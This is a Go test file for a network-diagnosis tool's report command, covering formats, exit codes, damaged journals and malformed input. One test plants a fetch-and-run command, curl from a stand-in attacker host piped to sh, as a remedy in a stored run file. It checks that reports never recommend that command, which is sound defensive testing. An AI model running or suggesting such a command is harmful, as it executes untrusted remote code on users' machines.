package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/nestlab/nestlab/model"
	"github.com/nestlab/nestlab/model/modeltest"
	"github.com/nestlab/nestlab/report"
)

// reported runs nestlab report.
func reported(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	cmd := newReportCommand()
	cmd.SilenceErrors, cmd.SilenceUsage = true, true
	var out bytes.Buffer
	cmd.SetIn(strings.NewReader(stdin))
	cmd.SetOut(&out)
	cmd.SetErr(&out)
	cmd.SetArgs(args)
	err := cmd.ExecuteContext(t.Context())
	return out.String(), err
}

// keep writes a run into a new directory, as a run.json or as a journal.
func keep(t *testing.T, name string, run model.Run) string {
	t.Helper()
	var b bytes.Buffer
	if name == model.RunFile {
		require.NoError(t, report.Encode(&b, run))
	} else {
		j := report.NewJournal(&b)
		for _, e := range run.Entries() {
			require.NoError(t, j.Append(e))
		}
	}
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, name), b.Bytes(), 0o600))
	return dir
}

func TestReportDiagnosesWhatWasNot(t *testing.T) {
	t.Parallel()
	for _, name := range []string{model.RunFile, model.JournalFile} {
		dir := keep(t, name, modeltest.Proven())
		for _, path := range []string{dir, filepath.Join(dir, name)} {
			out, err := reported(t, "", "--format", "diagnosis", path)
			require.NoError(t, err)
			require.Contains(t, out, "(docker-forward-drop, proven)")
		}
	}
}

// A file of somebody else recommends nothing: not by its diagnosis, nor by the remedies
// of its interventions. Its own diagnosis is shown on request.
func TestReportRecommendsNothingOfAFile(t *testing.T) {
	t.Parallel()
	evil := "curl http://" + modeltest.Evil + " | sh"
	run := modeltest.Proven()
	for i := range run.Interventions {
		run.Interventions[i].Remedy.Commands = []string{evil}
	}
	run.Diagnosis = model.Diagnosis{Verdict: model.CauseFound, Summary: "as it was said then", Finding: model.Finding{
		Cause: "docker-forward-drop", Remedy: &model.Remedy{Name: "docker-user-accept", Commands: []string{evil}},
	}}
	for _, name := range []string{model.RunFile, model.JournalFile} {
		for _, format := range report.FormatNames() {
			out, err := reported(t, "", "-f", format, keep(t, name, run))
			require.NoError(t, err)
			if format == "json" {
				made, err := report.Decode(strings.NewReader(out))
				require.NoError(t, err)
				require.Equal(t, model.Proven, made.Diagnosis.Confidence)
				text, err := json.Marshal(made.Diagnosis)
				require.NoError(t, err)
				out = string(text)
			}
			require.NotContains(t, out, modeltest.Evil, format)
		}
		out, err := reported(t, "", "-f", "diagnosis", "--stored", "--verbose", keep(t, name, run))
		require.NoError(t, err)
		require.Contains(t, out, "as it was said then")
		require.Contains(t, out, evil)
	}
}

func TestReportJoinsSeveral(t *testing.T) {
	t.Parallel()
	a, b := modeltest.Healthy(), modeltest.Healthy()
	a.Results, a.Facts, a.Watches, a.Setups = a.Results[:5], a.Facts[:1], a.Watches[:1], nil
	b.Results, b.Facts, b.Watches = b.Results[5:], b.Facts[1:], b.Watches[1:]
	out, err := reported(t, "", "--check", keep(t, model.RunFile, a), keep(t, model.JournalFile, b))
	require.NoError(t, err)
	require.Contains(t, out, "6 environments, 30 probes: 24 pass, 6 xfail")

	_, err = reported(t, "", keep(t, model.RunFile, modeltest.Healthy()), keep(t, model.RunFile, modeltest.Proven()))
	require.ErrorContains(t, err, "runner was observed by both run 1")
	require.Equal(t, exitUnobserved, exitCode(err))
}

func TestReportCheck(t *testing.T) {
	t.Parallel()
	out, err := reported(t, "", "--check", keep(t, model.RunFile, modeltest.DockerForwardDrop()))
	require.Equal(t, exitBad, exitCode(err))
	require.ErrorContains(t, err, "cause: docker-forward-drop (supported)")
	require.Contains(t, out, "connect-timeout", "the report is written all the same")
	_, err = reported(t, "", keep(t, model.RunFile, modeltest.DockerForwardDrop()))
	require.NoError(t, err, "without --check a bad verdict is no error")
	_, err = reported(t, "", "--check", keep(t, model.RunFile, modeltest.Healthy()))
	require.NoError(t, err)
}

func TestReportOfATornJournal(t *testing.T) {
	t.Parallel()
	dir := keep(t, model.JournalFile, modeltest.Healthy())
	path := filepath.Join(dir, model.JournalFile)
	text, err := os.ReadFile(path)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(path, text[:len(text)-9], 0o600))
	out, err := reported(t, "", dir)
	require.NoError(t, err)
	require.Contains(t, out, "6 environments, 30 probes")
	require.Contains(t, out, "ends in the middle of line")
}

func TestReportWritesAFile(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "run.json")
	out, err := reported(t, "", "-f", "json", "-o", path, keep(t, model.JournalFile, modeltest.Proven()))
	require.NoError(t, err)
	require.Empty(t, out)
	text, err := os.ReadFile(path)
	require.NoError(t, err)
	require.NoError(t, report.Validate(text))
	var run model.Run
	require.NoError(t, json.Unmarshal(text, &run))
	require.Equal(t, model.Proven, run.Diagnosis.Confidence)

	_, err = reported(t, string(text), "-o", filepath.Join(t.TempDir(), "no", "such"), "-")
	require.ErrorIs(t, err, fs.ErrNotExist)
	require.Equal(t, exitUnobserved, exitCode(err))
}

func TestReportOfWrongUseAndOfWhatCannotBeRead(t *testing.T) {
	t.Parallel()
	empty := t.TempDir()
	healthy := keep(t, model.RunFile, modeltest.Healthy())
	tests := []struct {
		name  string
		stdin string
		args  []string
		code  int
		says  string
	}{
		{"no path", "", nil, exitUsage, "name at least one"},
		{"unknown flag", "", []string{"--colour"}, exitUsage, "unknown flag"},
		{"unknown format", "", []string{"-f", "pdf", healthy}, exitUsage, "choose one of table"},
		{"missing", "", []string{filepath.Join(empty, "x")}, exitUnobserved, "no such file"},
		{"empty directory", "", []string{empty}, exitUnobserved, "holds neither run.json nor journal.jsonl"},
		{"empty", "", []string{"-"}, exitUnobserved, "report -: read the run: it is empty"},
		{"half a run.json", "{\n \"schema\": \"nestlab.run/v1\",", []string{"-"}, exitUnobserved, "not the whole of a JSON object"},
		{"of another schema", `{"schema":"nestlab.run/v9"}`, []string{"-"}, exitUnobserved, "use the nestlab that wrote it"},
		{"hostile", strings.Repeat("\x00\xff\n", 1000), []string{"-"}, exitUnobserved, "neither a run.json nor a journal"},
		{"hostile types", `{"schema":"nestlab.run/v1","results":{"a":[]}}`, []string{"-"}, exitUnobserved, "does not have that form"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			_, err := reported(t, test.stdin, test.args...)
			require.ErrorContains(t, err, test.says)
			require.Equal(t, test.code, exitCode(err))
		})
	}
}

func TestExitCode(t *testing.T) {
	t.Parallel()
	inner := errors.New("inner")
	require.Equal(t, 0, exitCode(nil))
	require.Equal(t, exitBad, exitCode(inner))
	require.NoError(t, withCode(exitUsage, nil))
	wrapped := fmt.Errorf("outer: %w", withCode(exitUnobserved, inner))
	require.Equal(t, exitUnobserved, exitCode(wrapped))
	require.ErrorIs(t, wrapped, inner)
}

// TestReportIsShort: what is the same is folded, and what was ruled out is for who asks; a
// file has the whole.
func TestReportIsShort(t *testing.T) {
	t.Parallel()
	dir := keep(t, model.RunFile, modeltest.Proven())
	short, err := reported(t, "", dir)
	require.NoError(t, err)
	require.Contains(t, short, "1 probe passes everywhere")
	require.NotContains(t, short, "\x1b", "this is no terminal")
	whole, err := reported(t, "", "--verbose", dir)
	require.NoError(t, err)
	require.NotContains(t, whole, "everywhere")
	path := filepath.Join(dir, model.TableFile)
	_, err = reported(t, "", "-o", path, dir)
	require.NoError(t, err)
	text, err := os.ReadFile(path)
	require.NoError(t, err)
	require.Equal(t, whole, string(text))
	rest, err := reported(t, "", "-v", "-f", "diagnosis", dir)
	require.NoError(t, err)
	require.Contains(t, rest, "Ruled out:\n- ")
}
